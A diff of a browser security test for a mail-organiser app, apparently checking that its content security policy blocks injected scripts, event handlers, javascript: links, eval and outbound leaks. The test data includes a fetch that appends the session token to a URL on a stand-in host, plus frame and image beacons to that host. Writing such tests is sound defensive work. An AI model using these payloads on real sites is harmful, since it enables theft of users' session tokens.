@@ -1,4 +1,4 @@
-"""The access token lives in one tab's sessionStorage and nowhere else; nothing that a page could be made to do takes it."""
+"""The access token lives in one tab's sessionStorage and nowhere else; nothing planted in the page can take it."""
 
 import json
 import re
@@ -12,9 +12,11 @@ PLANTED = {
     "an inline script": """() => { const one = document.createElement("script");
       one.append("window.taken = 1"); document.head.append(one); }""",
     "an event handler": """() => { const one = document.createElement("button");
-      one.setAttribute("onclick", "window.taken = 1"); document.body.append(one); one.click(); one.remove(); }""",
+      one.setAttribute("onclick", "window.taken = 1");
+      document.body.append(one); one.click(); one.remove(); }""",
     "a javascript: link": """() => { const one = document.createElement("a");
-      one.setAttribute("href", "javascript:window.taken = 1"); document.body.append(one); one.click(); one.remove(); }""",
+      one.setAttribute("href", "javascript:window.taken = 1");
+      document.body.append(one); one.click(); one.remove(); }""",
 }
 STRINGS = {
     "eval": "eval('window.taken = 1')",
@@ -29,7 +31,8 @@ STRINGS = {
 TRY = """() => new Promise((done) => setTimeout(() => {
   try { %s; done("done"); } catch (refused) { done(`${refused.name}: ${refused.message}`); } }))"""
 LEAVES = {
-    "a request": "() => fetch('https://elsewhere.test/?' + sessionStorage.getItem('mail-organiser.token')).catch(() => {})",
+    "a request": """() => fetch('https://elsewhere.test/?' + sessionStorage.getItem('mail-organiser.token'))
+      .catch(() => {})""",
     "a frame": """() => { const one = document.createElement("iframe");
       one.setAttribute("src", "https://elsewhere.test/"); document.body.append(one); one.remove(); }""",
     "a picture": "() => { new Image().src = 'https://elsewhere.test/?token'; }",
